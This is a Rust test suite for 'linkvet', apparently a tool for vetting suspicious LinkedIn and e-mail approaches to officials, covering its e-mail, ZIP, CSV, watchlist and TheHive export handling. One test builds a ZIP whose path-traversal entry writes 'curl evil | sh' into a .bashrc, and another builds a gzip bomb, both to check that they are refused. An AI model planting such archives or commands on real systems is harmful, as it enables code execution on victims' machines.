//! Where approaches come from: forwarded e-mails (.eml, mbox, Maildir), LinkedIn export ZIPs and
//! day-first dates, gzip and byte-order marks, the spool folder, partner watchlists (MISP, STIX),
//! and the rule that only commands adding data may create a database.

mod common;
use common::{Case, fixtures};
use predicates::prelude::*;
use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};

fn email(name: &str) -> String {
    fixtures().join("email").join(name).display().to_string()
}

fn show(case: &Case, id: &str) -> Value {
    serde_json::from_str(&case.run_ok(&["show", id, "--format", "json"])).unwrap()
}

/// The one request a fresh case holds after importing `file`.
fn only_report(case: &Case) -> Value {
    let list = case.run_ok(&["list", "--format", "json"]);
    let rows: Vec<Value> = list.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(rows.len(), 1, "{list}");
    show(case, &rows[0]["id"].to_string())
}

#[test]
fn a_linkedin_invitation_forwarded_as_an_attachment_gives_every_field() {
    let case = Case::new();
    let out = case.run_ok(&["import", "--no-check", &email("linkedin-invitation-attached.eml")]);
    assert!(out.contains("imported 1"), "{out}");
    let v = only_report(&case);
    let r = &v["report"];
    assert_eq!(r["platform"], "linkedin");
    assert_eq!(r["received_at"], "2026-11-02T09:14:00Z");
    assert_eq!(r["reported_at"], "2026-11-02T10:01:00Z");
    assert_eq!(r["reporter"], "jane.smith@desnz.example");
    assert_eq!(r["recipient"]["name"], "Jane Smith");
    assert_eq!(r["recipient"]["role"], "Senior Policy Adviser, Nuclear");
    let s = &r["sender"];
    assert_eq!(s["name"], "Marta Kowalczyk");
    assert_eq!(s["headline"], "Senior Talent Partner | Energy & Policy Consulting");
    assert_eq!(s["location"], "Warsaw, Mazowieckie, Poland");
    // The tracking-laden /comm/ link, in its one canonical form.
    assert_eq!(s["profile_url"], "https://www.linkedin.com/in/marta-kowalczyk-7c21e0");
    assert!(r["message"].as_str().unwrap().starts_with("Hi Jane, your work on reactor siting"), "{r}");
    assert!(!r["message"].as_str().unwrap().contains('"'), "the quotes around the note are LinkedIn's, not hers");
    assert_eq!(r["notes"], "Never met her; the WhatsApp bit worried me.");
    assert_eq!(r["linkedin_notification"], "invitation");
    // The photo the HTML shows with her name, not LinkedIn's logo beside it.
    let want = sha256_of(&fixtures().join("reference/stock/d000_camera_head_shoulders_150_81_170.jpg"));
    assert_eq!(v["photo_sha256"], want.as_str());
}

fn sha256_of(path: &Path) -> String {
    use sha2::Digest;
    let d = sha2::Sha256::digest(std::fs::read(path).unwrap());
    d.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn a_message_forwarded_inline_in_base64_and_an_html_only_inmail() {
    let case = Case::new();
    case.run_ok(&["import", "--no-check", &email("linkedin-message-inline.eml")]);
    let r = only_report(&case)["report"].clone();
    assert_eq!(r["received_at"], "2026-11-03T09:14:00Z", "Gmail's 'Tue, Nov 3, 2026 at 9:14 AM', read in UTC");
    assert_eq!(r["sender"]["name"], "Daniel Whitfield");
    assert_eq!(r["sender"]["headline"], "Director, Whitfield Strategic Advisory");
    assert_eq!(r["sender"]["profile_url"], "https://www.linkedin.com/in/daniel-whitfield-advisory");
    assert!(r["message"].as_str().unwrap().starts_with("Dear Jane, we are commissioning"), "{r}");
    assert_eq!(r["notes"], "Worth a look? This came in this morning.");
    assert_eq!(r["linkedin_notification"], "message");

    let case = Case::new();
    case.run_ok(&["import", "--no-check", "--reporter", "duty.officer", &email("inmail-html-only.eml")]);
    let r = only_report(&case)["report"].clone();
    assert_eq!(r["linkedin_notification"], "inmail");
    assert_eq!(r["sender"]["headline"], "Head of Research Partnerships | Institute for Strategic Futures");
    assert_eq!(r["sender"]["location"], "Vienna, Austria");
    let m = r["message"].as_str().unwrap();
    assert!(m.starts_with("Confidential advisory opportunity (InMail)\n\nDear Ms Smith,"), "{m}");
    assert!(m.contains("£500 per hour"), "quoted-printable and the &pound; entity decoded: {m}");
    // A redirected notification names no forwarder: --reporter fills it in.
    assert_eq!(r["reporter"], "duty.officer");
}

#[test]
fn a_plain_email_approach_keeps_the_address_and_clean_links() {
    let case = Case::new();
    case.run_ok(&["import", "--no-check", &email("plain-approach-attached.eml")]);
    let r = only_report(&case)["report"].clone();
    assert_eq!(r["platform"], "email");
    assert_eq!(r["sender"]["name"], "Dr Olivia Hart");
    assert_eq!(r["sender"]["emails"], serde_json::json!(["o.hart.research@proton.me"]));
    assert_eq!(r["sender"]["websites"], serde_json::json!(["https://hart-research.example/about"]));
    assert_eq!(r["sender"]["profile_url"], "https://www.linkedin.com/in/olivia-hart-research");
    assert_eq!(r["received_at"], "2026-11-05T15:45:00Z", "+0100 converted");
    assert_eq!(r["reporter"], "tom.haworth@desnz.example");
    assert!(r["message"].as_str().unwrap().starts_with("Paid white paper on SMR licensing\n\nDear Jane,"));
}

#[test]
fn an_mbox_and_a_maildir_import_their_approaches_and_count_the_rest() {
    let case = Case::new();
    let out = case.run_ok(&["import", "--no-check", &email("reports.mbox"), &email("maildir")]);
    assert!(out.contains("imported 2, already present 0, skipped outgoing 0, skipped 3 not approaches"), "{out}");
    assert!(out.contains("reports.mbox, line 29, message 2 (\"Question about the reporting policy\")"), "{out}");
    assert!(out.contains("Auto-Submitted"), "{out}");
    assert!(out.contains("12 new jobs"), "{out}");
    let chen = show(&case, "1")["report"].clone();
    assert_eq!(chen["sender"]["name"], "Chen Jing");
    assert_eq!(chen["received_at"], "2026-11-09T03:12:00Z", "Outlook's 'Sent:' line");
    assert_eq!(chen["recipient"]["name"], "Mark Evans");
    let elena = show(&case, "2");
    let r = &elena["report"];
    assert_eq!(r["sender"]["name"], "Elena Vasquez");
    assert_eq!(r["received_at"], "2026-11-10T13:05:00Z", "Apple Mail's date line");
    assert_eq!(elena["photo_sha256"], sha256_of(&fixtures().join("reports/photos/R-2026-000101.jpg")).as_str());
    // The same files again: nothing new, the same count of non-approaches.
    let again = case.run_ok(&["import", "--no-check", &email("reports.mbox"), &email("maildir")]);
    assert!(again.contains("imported 0, already present 2"), "{again}");
}

#[test]
fn a_non_approach_is_skipped_and_its_look_alike_is_not() {
    let case = Case::new();
    let out = case.run_ok(&["import", "--no-check", &email("not-an-approach.eml")]);
    assert!(out.contains("imported 0") && out.contains("skipped 1 not approaches"), "{out}");
    assert!(out.contains("invitation was accepted"), "{out}");
    // The same forward with the subject of an invitation is an approach.
    let text = std::fs::read_to_string(email("not-an-approach.eml"))
        .unwrap()
        .replace("Priya Shah accepted your invitation", "Priya Shah wants to connect")
        .replace("From: LinkedIn <invitations", "From: Priya Shah via LinkedIn <invitations");
    let twin = case.dir.path().join("twin.eml");
    std::fs::write(&twin, text).unwrap();
    let out = case.run_ok(&["import", "--no-check", twin.to_str().unwrap()]);
    assert!(out.contains("imported 1") && !out.contains("not approaches"), "{out}");
}

#[test]
fn a_message_with_an_unreadable_date_stops_the_whole_mailbox() {
    let case = Case::new();
    let mbox = std::fs::read_to_string(email("reports.mbox")).unwrap();
    let bad = mbox.replace("Sent: Monday, November 9, 2026 3:12 AM", "Sent: the other day");
    let path = case.dir.path().join("bad.mbox");
    std::fs::write(&path, bad).unwrap();
    case.cmd().args(["import", path.to_str().unwrap()]).assert().code(2).stderr(
        predicate::str::contains("bad.mbox, line 2, field `Date`")
            .and(predicate::str::contains("\"the other day\""))
            .and(predicate::str::contains("nothing was imported")),
    );
    assert!(!case.db().exists(), "bad input creates no database");
}

fn zip_of(path: &Path, entries: &[(&str, &[u8])]) {
    let mut w = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    for (name, bytes) in entries {
        w.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap();
}

#[test]
fn the_linkedin_export_zip_imports_and_a_path_trick_is_refused() {
    let case = Case::new();
    let csv = std::fs::read(fixtures().join("linkedin/Invitations.csv")).unwrap();
    let zip = case.dir.path().join("Basic_LinkedInDataExport_11-30-2026.zip");
    zip_of(&zip, &[("Profile.csv", b"First Name\nJane\n"), ("Invitations.csv", &csv)]);
    let out = case.run_ok(&[
        "import",
        "--no-check",
        "--recipient-org",
        "Department for Energy Security",
        zip.to_str().unwrap(),
    ]);
    assert!(out.contains("imported 8, already present 0, skipped outgoing 3"), "{out}");
    let r = show(&case, "1")["report"].clone();
    assert_eq!(r["recipient"]["org"], "Department for Energy Security");
    // The same export as a plain CSV holds the same invitations.
    let again = case.run_ok(&["import", "--no-check", fixtures().join("linkedin/Invitations.csv").to_str().unwrap()]);
    assert!(again.contains("imported 0, already present 8"), "{again}");

    let evil = case.dir.path().join("evil.zip");
    zip_of(&evil, &[("Invitations.csv", &csv), ("../../../home/officer/.bashrc", b"curl evil | sh")]);
    case.cmd()
        .args(["import", evil.to_str().unwrap()])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("points outside the archive"));
}

#[test]
fn a_day_first_export_is_read_right_or_refused_never_misdated() {
    let case = Case::new();
    let head = "From,To,Sent At,Message,Direction\n";
    let day_first = case.dir.path().join("dmy.csv");
    std::fs::write(&day_first, format!("{head}A,J,\"05/10/26, 08:41\",,INCOMING\nB,J,\"25/10/26, 17:02\",,INCOMING\n"))
        .unwrap();
    let out = case.run_ok(&["import", "--no-check", day_first.to_str().unwrap()]);
    assert!(out.contains("dates read day first"), "{out}");
    let dates: Vec<String> =
        (1..=2).map(|i| show(&case, &i.to_string())["report"]["received_at"].as_str().unwrap().to_owned()).collect();
    assert!(dates.contains(&"2026-10-05T08:41:00Z".to_owned()), "5 October, not 10 May: {dates:?}");

    let ambiguous = case.dir.path().join("either.csv");
    std::fs::write(&ambiguous, format!("{head}C,J,\"05/10/26, 8:41 AM\",,INCOMING\n")).unwrap();
    case.cmd()
        .args(["import", ambiguous.to_str().unwrap()])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--date-order dmy").and(predicate::str::contains("line 2")));
    let out = case.run_ok(&[
        "import",
        "--no-check",
        "--date-order",
        "dmy",
        "--tz",
        "Europe/London",
        ambiguous.to_str().unwrap(),
    ]);
    assert!(out.contains("imported 1"), "{out}");
    assert_eq!(show(&case, "3")["report"]["received_at"], "2026-10-05T07:41:00Z", "08:41 in London in summer");
}

#[test]
fn gzip_and_byte_order_marks_are_read_and_a_gzip_bomb_is_not() {
    let case = Case::new();
    let demo = std::fs::read_to_string(fixtures().join("reports/demo.jsonl")).unwrap();
    let first: Value = serde_json::from_str(demo.lines().next().unwrap()).unwrap();
    let mut one = first.clone();
    one["sender"]["photo"] = Value::Null;
    one["id"] = "GZ-1".into();
    let gz = case.dir.path().join("reports.jsonl.gz");
    let mut enc = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::default());
    writeln!(enc, "{one}").unwrap();
    enc.finish().unwrap();
    one["id"] = "BOM-1".into();
    let bom = case.dir.path().join("bom.json");
    std::fs::write(&bom, format!("\u{feff}{one}")).unwrap();
    let out = case.run_ok(&["import", "--no-check", gz.to_str().unwrap(), bom.to_str().unwrap()]);
    assert!(out.contains("imported 2"), "{out}");

    let bomb = case.dir.path().join("bomb.jsonl.gz");
    let mut enc = flate2::write::GzEncoder::new(std::fs::File::create(&bomb).unwrap(), flate2::Compression::best());
    let zeros = vec![b' '; 1 << 20];
    for _ in 0..64 {
        enc.write_all(&zeros).unwrap();
    }
    enc.finish().unwrap();
    case.cmd().args(["import", bomb.to_str().unwrap()]).assert().code(2).stderr(predicate::str::contains("bomb"));
}

#[test]
fn partner_watchlists_import_with_their_source_and_hit_reports() {
    let case = Case::new();
    let w = fixtures().join("watchlists");
    let out = case.run_ok(&["watchlist", "import", w.join("misp-event.json").to_str().unwrap()]);
    assert!(out.contains("added 8 watchlist entries from MISP event"), "{out}");
    assert!(out.contains("1 × MISP ip-dst") && out.contains("deleted MISP attribute"), "{out}");
    let out = case.run_ok(&["watchlist", "import", w.join("misp-feed").to_str().unwrap()]);
    assert!(out.contains("added 2 watchlist entries from MISP feed, already present 8"), "{out}");
    let out = case.run_ok(&["watchlist", "import", w.join("stix-bundle.json").to_str().unwrap()]);
    assert!(out.contains("from STIX 2.1 bundle"), "{out}");
    let rows: Vec<(String, String, String)> = case
        .sql()
        .prepare("SELECT kind, value, source FROM watchlist ORDER BY id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    let has = |k: &str, v: &str| rows.iter().any(|(kind, value, _)| kind == k && value == v);
    for (k, v) in [
        ("domain", "gtp-consult.example"),
        ("phone", "+44 7700 900481"),
        ("photo", "5e1c3a9f0b7d2e4c6a8f1b3d5e7c9a0b2d4f6e8a1c3b5d7f9e0a2c4b6d8f0a1c"),
        ("name", "Elena Vasquez"),
        ("org", "Global Talent Partners"),
        ("name", "Chen Jing"),
        ("name", "Olivia Hart"),
        ("org", "Hart Research Partners"),
        ("phone", "+44 7700 900777"),
        ("email", "a.petrov.isf@proton.me"),
        ("url", "https://www.linkedin.com/in/aleksandr-petrov-isf"),
        ("domain", "hart-research.example"),
    ] {
        assert!(has(k, v), "{k} {v} missing from {rows:?}");
    }
    // The bundle's producer and the organisation it says was targeted are not suspects.
    assert!(!has("org", "Department for Energy Security") && !has("org", "Allied Counter-Intelligence Liaison"));
    assert!(!has("domain", "old-front.example"), "a deleted MISP attribute is not taken");
    assert!(rows.iter().filter(|(_, v, _)| v == "gtp-consult.example").all(|(_, _, s)| s.contains("Partner CERT")));
    assert!(rows.iter().any(|(_, _, s)| s.starts_with("STIX bundle bundle--7f1e2d3c") && s.contains("Allied")));

    // A forwarded approach from the partner's persona now hits the watchlist.
    let out = case.run_ok(&["import", &email("maildir")]);
    assert!(out.contains("imported 1"), "{out}");
    let v = show(&case, "1");
    let watch = v["checks"].as_array().unwrap().iter().find(|c| c["check"] == "watchlist").unwrap().clone();
    assert_eq!(watch["verdict"], "suspicious", "{watch}");
    assert!(watch["lines"].to_string().contains("gtp-consult.example"), "{watch}");
}

#[test]
fn a_file_that_is_not_a_watchlist_is_refused_naming_the_kinds() {
    let case = Case::new();
    let f = case.dir.path().join("x.json");
    std::fs::write(&f, r#"{"hello": "world"}"#).unwrap();
    case.cmd()
        .args(["watchlist", "import", f.to_str().unwrap()])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("MISP event").and(predicate::str::contains("STIX 2.1 bundle")));
    assert!(!case.db().exists());
}

/// Every command that only reads or decides, with the arguments it needs (none: the workstation).
fn read_commands(dir: &Path) -> Vec<Vec<String>> {
    let photo = fixtures().join("reports/photos/R-2026-000101.jpg").display().to_string();
    let out = dir.join("bundles").display().to_string();
    let spool = dir.join("spool");
    std::fs::create_dir_all(&spool).unwrap();
    [
        vec![],
        vec!["list"],
        vec!["list", "--format", "json"],
        vec!["show", "1"],
        vec!["decide", "1", "flag"],
        vec!["undo"],
        vec!["check"],
        vec!["photo", "search", &photo],
        vec!["audit", "log"],
        vec!["audit", "verify"],
        vec!["audit", "anchor"],
        vec!["export", "1", "--format", "stix", "--out", &out],
        vec!["watch", "--once", spool.to_str().unwrap()],
    ]
    .into_iter()
    .map(|a| a.into_iter().map(str::to_owned).collect())
    .collect()
}

#[test]
fn a_missing_database_is_refused_by_every_read_command_and_never_created() {
    let case = Case::new();
    for args in read_commands(case.dir.path()) {
        case.cmd().args(&args).assert().code(2).stderr(
            predicate::str::contains(case.db().display().to_string()).and(predicate::str::contains("linkvet init")),
        );
        assert!(!case.db().exists(), "{args:?} created a database");
    }
    // `init` creates one; then the same commands run (or fail for their own reasons).
    let out = case.run_ok(&["init"]);
    assert!(out.contains("created an empty linkvet database"), "{out}");
    assert!(case.run_ok(&["audit", "verify"]).contains("intact"));
    assert!(case.run_ok(&["init"]).contains("already there"));
}

#[test]
fn a_file_that_is_not_a_database_is_bad_input_not_unavailable() {
    let case = Case::new();
    std::fs::create_dir_all(case.db().parent().unwrap()).unwrap();
    std::fs::write(case.db(), "this is a note, not a database, and it is long enough to fill a header page".repeat(20))
        .unwrap();
    let before = std::fs::read(case.db()).unwrap();
    for args in [vec!["list"], vec!["import", &email("inmail-html-only.eml")], vec!["init"]] {
        case.cmd().args(&args).assert().code(2).stderr(predicate::str::contains("not a linkvet database"));
    }
    assert_eq!(std::fs::read(case.db()).unwrap(), before, "left exactly as it was");
}

#[test]
fn the_spool_folder_takes_complete_files_and_sorts_them_into_done_and_rejected() {
    let case = Case::new();
    case.run_ok(&["init"]);
    let spool: PathBuf = case.dir.path().join("spool");
    std::fs::create_dir_all(&spool).unwrap();
    std::fs::copy(email("linkedin-message-inline.eml"), spool.join("a.eml")).unwrap();
    std::fs::write(spool.join("b.jsonl"), "{\"schema\": \"linkvet.report/9\"}\n").unwrap();
    std::fs::copy(email("plain-approach-attached.eml"), spool.join("c.eml.tmp")).unwrap();
    let out =
        case.cmd().args(["watch", "--once", "--settle", "0", "--no-check", spool.to_str().unwrap()]).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "a rejected file is a problem found: {stdout}");
    assert!(stdout.contains("a.eml: imported 1"), "{stdout}");
    assert!(stdout.contains("b.jsonl: rejected"), "{stdout}");
    assert!(spool.join("done/a.eml").is_file());
    assert!(spool.join("rejected/b.jsonl").is_file());
    let error = std::fs::read_to_string(spool.join("rejected/b.jsonl.error.txt")).unwrap();
    assert!(
        error.contains("line 1") && error.contains("schema") && error.contains("nothing from this file"),
        "{error}"
    );
    assert!(spool.join("c.eml.tmp").is_file(), "a file still being written is left alone");
    assert!(case.run_ok(&["list"]).contains("Daniel Whitfield"));
    // The writer renames it into place: taken on the next look. A second a.eml is kept beside
    // the first in done/, never over it.
    std::fs::rename(spool.join("c.eml.tmp"), spool.join("c.eml")).unwrap();
    std::fs::copy(email("linkedin-message-inline.eml"), spool.join("a.eml")).unwrap();
    let out =
        case.cmd().args(["watch", "--once", "--settle", "0", "--no-check", spool.to_str().unwrap()]).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(
        stdout.contains("c.eml: imported 1") && stdout.contains("a.eml: imported 0, already present 1"),
        "{stdout}"
    );
    let done: Vec<String> =
        std::fs::read_dir(spool.join("done")).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(done.len(), 3, "{done:?}");
    assert!(done.iter().any(|n| n.ends_with("-a.eml")), "{done:?}");
}

#[test]
fn the_log_records_imports_checks_decisions_and_exports() {
    let case = Case::new();
    case.run_ok(&["import", &email("linkedin-invitation-attached.eml")]);
    case.run_ok(&["decide", "1", "report", "--note", "persona"]);
    let out = case.dir.path().join("out");
    case.run_ok(&["export", "1", "--format", "thehive", "--out", out.to_str().unwrap()]);
    let log = std::fs::read_to_string(case.db().parent().unwrap().join("linkvet.log")).unwrap();
    for what in ["import", "check run", "decision", "export"] {
        assert!(log.contains(what), "{what} missing from the log:\n{log}");
    }
    assert!(!log.contains("persona\""), "the decision's note stays in the database");
}

#[test]
fn list_as_csv_and_the_generated_completions_and_manual() {
    let case = Case::new();
    case.run_ok(&["import", "--no-check", &email("plain-approach-attached.eml")]);
    let csv = case.run_ok(&["list", "--format", "csv"]);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("id,external_id,received_at,sender,recipient,platform,status,risk,level,decided_by,decided_at,checks")
    );
    assert!(lines.next().unwrap().contains(",Dr Olivia Hart,Jane Smith,email,pending,"), "{csv}");
    let bash = case.run_ok(&["completions", "bash"]);
    assert!(bash.contains("linkvet") && bash.contains("--date-order"), "{}", &bash[..200.min(bash.len())]);
    let man = case.run_ok(&["manpage"]);
    assert!(man.contains(".TH linkvet") && man.contains("watch"), "{}", &man[..200.min(man.len())]);
    let version = case.run_ok(&["--version"]);
    assert!(version.starts_with("linkvet 0.1.0 (commit ") && version.contains(", built 20"), "{version}");
    assert!(!case.db().parent().unwrap().join("linkvet.log").exists() || case.db().exists());
}

/// The committed field list of TheHive's alert API, as `.ci/validate-exports` checks it.
fn thehive_schema() -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(".ci/thehive-alert.schema.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

/// Keys all known to `def`, its required ones present.
fn fits(value: &Value, def: &Value) {
    let props = def["properties"].as_object().unwrap();
    for k in value.as_object().unwrap().keys() {
        assert!(props.contains_key(k), "{k} is not a field of TheHive's API");
    }
    for r in def["required"].as_array().unwrap() {
        assert!(value.get(r.as_str().unwrap()).is_some(), "{r} missing");
    }
}

#[test]
fn the_thehive_alert_has_only_fields_of_the_alert_api_and_every_observable() {
    let case = Case::new();
    case.run_ok(&["import", fixtures().join("reports/demo.jsonl").to_str().unwrap()]);
    case.run_ok(&["decide", "R-2026-000123", "report", "--note", "conference lure"]);
    case.run_ok(&["decide", "R-2026-000116", "report", "--note", "stolen photo"]);
    let out = case.dir.path().join("out");
    case.run_ok(&[
        "export",
        "R-2026-000123",
        "R-2026-000116",
        "--format",
        "thehive",
        "--out",
        out.to_str().unwrap(),
        "--tlp",
        "amber+strict",
        "--pap",
        "green",
    ]);
    let schema = thehive_schema();
    let read = |key: &str| -> Value {
        let dir = out.join(format!("{key}-thehive"));
        let sums = std::fs::read_to_string(dir.join("SHA256SUMS")).unwrap();
        assert!(sums.contains("alert.thehive.json"), "{sums}");
        serde_json::from_str(&std::fs::read_to_string(dir.join("alert.thehive.json")).unwrap()).unwrap()
    };
    let a = read("R-2026-000123");
    fits(&a, &schema);
    assert_eq!(
        (a["type"].as_str(), a["source"].as_str(), a["sourceRef"].as_str()),
        (Some("linkvet-approach"), Some("linkvet"), Some("R-2026-000123"))
    );
    assert_eq!((a["tlp"].as_u64(), a["pap"].as_u64()), (Some(4), Some(1)), "amber+strict is 4, PAP green 1");
    let observables = a["observables"].as_array().unwrap();
    let types: Vec<&str> = schema["$defs"]["InputObservable"]["properties"]["dataType"]["enum"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    for o in observables {
        fits(o, &schema["$defs"]["InputObservable"]);
        assert!(types.contains(&o["dataType"].as_str().unwrap()), "{o}");
    }
    let has = |t: &str, d: &str| observables.iter().any(|o| o["dataType"] == t && o["data"] == d);
    assert!(has("mail", "hannah.okafor@securesystemssummit.example"), "{observables:?}");
    assert!(has("domain", "securesystemssummit.example"), "{observables:?}");
    assert!(has("other", "+44 20 7946 0321"), "{observables:?}");
    assert!(!observables.iter().any(|o| o["dataType"] == "hash"), "no photo, no hash");
    // The stolen-photo persona: its photo's hash, and severity from its risk.
    let b = read("R-2026-000116");
    fits(&b, &schema);
    assert!(
        b["observables"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o["dataType"] == "hash" && o["data"].as_str().unwrap().len() == 64)
    );
    assert!(b["severity"].as_u64().unwrap() >= 3, "{}", b["severity"]);
    assert!(b["description"].as_str().unwrap().contains("stolen photo"));
}
